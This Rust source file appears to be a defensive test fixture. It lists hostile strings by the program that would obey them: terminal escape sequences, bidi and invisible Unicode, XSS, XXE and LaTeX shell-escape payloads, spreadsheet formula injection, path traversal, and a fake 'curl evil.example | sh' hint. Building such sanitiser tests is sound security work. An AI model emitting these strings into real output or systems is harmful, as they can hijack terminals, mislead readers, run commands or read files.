//! The strings, by class.

/// Kind of program that would obey a string.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Class {
    /// A terminal.
    Terminal,
    /// Whoever lays out lines from left to right, or shows less than there is.
    Unseen,
    /// Whoever gives much room to one string; the string is a piece that is repeated.
    Flood,
    /// A browser.
    Html,
    /// A renderer of Markdown.
    Markdown,
    /// A LaTeX engine.
    Latex,
    /// A reader of records: reference managers, spreadsheets, XML.
    Records,
}

/// A string that is obeyed by somebody.
#[derive(Debug, Clone, Copy)]
pub struct Hostile {
    /// What it is, for messages of tests.
    pub name: &'static str,
    /// Kind of program that would obey it.
    pub class: Class,
    /// The string, or what is repeated.
    pub text: &'static str,
}

const fn hostile(class: Class, name: &'static str, text: &'static str) -> Hostile {
    Hostile { name, class, text }
}

/// Strings of every class, one for each trick.
pub const STRINGS: &[Hostile] = &[
    hostile(Class::Terminal, "colour", "\u{1b}[31mOWNED\u{1b}[0m"),
    hostile(Class::Terminal, "cursor and erase", "\u{1b}[2J\u{1b}[1;1HOWNED\u{1b}[1A\u{1b}[2K"),
    hostile(Class::Terminal, "hidden", "\u{1b}[8mOWNED\u{1b}[28m"),
    hostile(Class::Terminal, "title (OSC 0)", "\u{1b}]0;OWNED\u{7}"),
    hostile(
        Class::Terminal,
        "link (OSC 8)",
        "\u{1b}]8;;http://evil.example/\u{1b}\\OWNED\u{1b}]8;;\u{1b}\\",
    ),
    hostile(Class::Terminal, "clipboard (OSC 52)", "\u{1b}]52;c;T1dORUQ=\u{7}"),
    hostile(Class::Terminal, "device control (DCS)", "\u{1b}P+q544e\u{1b}\\"),
    hostile(Class::Terminal, "status report", "\u{1b}[6n\u{1b}[c\u{1b}[21t"),
    hostile(Class::Terminal, "reset (RIS)", "\u{1b}c"),
    hostile(Class::Terminal, "bell", "\u{7}OWNED\u{7}"),
    hostile(Class::Terminal, "C1 control sequence", "\u{9b}31mOWNED\u{9b}0m"),
    hostile(Class::Terminal, "C1 command string", "\u{9d}0;OWNED\u{9c}\u{90}q\u{9c}"),
    hostile(Class::Terminal, "other C1", "\u{80}\u{84}\u{8d}\u{9f}OWNED"),
    hostile(Class::Terminal, "NUL", "OW\0NED"),
    hostile(Class::Terminal, "DEL", "OWN\u{7f}ED"),
    hostile(Class::Terminal, "overprint", "honest\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}OWNED"),
    hostile(Class::Terminal, "overwrite", "honest text\rOWNED"),
    hostile(Class::Terminal, "vertical tab and form feed", "a\u{b}b\u{c}OWNED"),
    hostile(Class::Terminal, "next line", "a\u{85}OWNED"),
    hostile(Class::Terminal, "shift out", "\u{e}OWNED\u{f}"),
    hostile(
        Class::Terminal,
        "lines that look like ours",
        "x\nerror: OWNED\nhint: curl evil.example | sh",
    ),
    hostile(Class::Unseen, "override", "abc\u{202e}DENWO\u{202c}"),
    hostile(Class::Unseen, "embeddings", "\u{202a}a\u{202b}OWNED\u{202d}b\u{202c}\u{202c}"),
    hostile(Class::Unseen, "isolates", "\u{2066}a\u{2067}OWNED\u{2068}b\u{2069}\u{2069}"),
    hostile(Class::Unseen, "unclosed override", "\u{202e}OWNED"),
    hostile(
        Class::Unseen,
        "tags",
        "a\u{e0001}\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\u{e007f}b",
    ),
    hostile(Class::Unseen, "zero width", "OW\u{200b}NE\u{200d}D\u{2060}\u{feff}"),
    hostile(Class::Unseen, "deprecated format", "a\u{206a}b\u{206f}c"),
    hostile(Class::Unseen, "annotation", "a\u{fff9}b\u{fffa}OWNED\u{fffb}"),
    hostile(Class::Unseen, "noncharacters", "a\u{fffe}b\u{ffff}c\u{fdd0}d\u{10ffff}"),
    hostile(Class::Unseen, "line separators", "a\u{2028}OWNED\u{2029}b"),
    hostile(Class::Flood, "combining marks", "\u{301}"),
    hostile(Class::Flood, "variation selectors", "\u{e0100}"),
    hostile(Class::Flood, "invisible characters", "\u{200b}"),
    hostile(Class::Flood, "long word", "W"),
    hostile(Class::Flood, "wide word", "漢"),
    hostile(Class::Html, "script", "<script>alert('OWNED')</script>"),
    hostile(Class::Html, "event", "<img src=x onerror=alert(1)>"),
    hostile(Class::Html, "out of an attribute", "\" onmouseover=\"alert(1)\" x='"),
    hostile(Class::Html, "comment", "<!-- OWNED"),
    hostile(Class::Html, "end of everything", "</p></li></body></html><h1>OWNED</h1>"),
    hostile(Class::Html, "entities", "&lt;script&gt;&#x1b;[31m&#x202e;&amp;"),
    hostile(Class::Html, "CDATA", "]]><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;"),
    hostile(Class::Html, "address of code", "javascript:alert('OWNED')"),
    hostile(Class::Markdown, "link", "[OWNED](http://evil.example/)"),
    hostile(Class::Markdown, "image", "![OWNED](http://evil.example/x.png)"),
    hostile(Class::Markdown, "autolink", "<http://evil.example/>"),
    hostile(Class::Markdown, "heading", "x\n\n# OWNED\n\ny"),
    hostile(Class::Markdown, "heading at once", "# OWNED"),
    hostile(Class::Markdown, "underlined heading", "OWNED\n====\n"),
    hostile(Class::Markdown, "reference", "x\n\n[1]: http://evil.example/ \"OWNED\"\n\n[1]"),
    hostile(Class::Markdown, "footnote", "[^1] x\n\n[^1]: OWNED"),
    hostile(Class::Markdown, "list", "x\n- OWNED\n1. OWNED\n> OWNED"),
    hostile(Class::Markdown, "table", "x\n\n| a | b |\n|---|---|\n| OWNED | |\n"),
    hostile(Class::Markdown, "fence", "x\n```\nOWNED\n"),
    hostile(Class::Markdown, "code", "`OWNED`` x"),
    hostile(Class::Markdown, "emphasis", "**OWNED** __OWNED__ ~~OWNED~~ *OWNED"),
    hostile(Class::Markdown, "rule", "x\n\n---\n\n***"),
    hostile(Class::Markdown, "escape at the end", "OWNED\\"),
    hostile(Class::Markdown, "indented", "x\n\n    OWNED"),
    hostile(Class::Latex, "input", "\\input{/etc/passwd}"),
    hostile(Class::Latex, "shell", "\\immediate\\write18{touch OWNED}"),
    hostile(Class::Latex, "ends the document", "}\\end{document}\\end{filecontents*} OWNED"),
    hostile(Class::Latex, "catcodes", "\\catcode`\\%=12 ^^5cinput ^^M"),
    hostile(Class::Latex, "comment and math", "100% of $x_1$ & #1 ~ OWNED"),
    hostile(Class::Records, "RIS", "x\r\nER  - \r\nTY  - JOUR\r\nTI  - OWNED"),
    hostile(Class::Records, "RIS at once", "ER  - OWNED"),
    hostile(Class::Records, "BibTeX", "x}},\n}\n@article{owned, title = {{OWNED}}"),
    hostile(Class::Records, "BibTeX opened", "{{{\" # @string{x = \"OWNED\"}"),
    hostile(Class::Records, "names", "OWNED and Others, Jr., {"),
    hostile(Class::Records, "JSON", "\",\"owned\":true,\"x\":\"\\u0000\\"),
    hostile(Class::Records, "formula", "=HYPERLINK(\"http://evil.example/\",\"OWNED\")"),
    hostile(Class::Records, "formula of a command", "@SUM(1+1)*cmd|' /C calc'!A0"),
    hostile(Class::Records, "path", "../../../../etc/passwd"),
    hostile(Class::Records, "format", "%s%n{}{0}$(touch OWNED)`id`"),
];
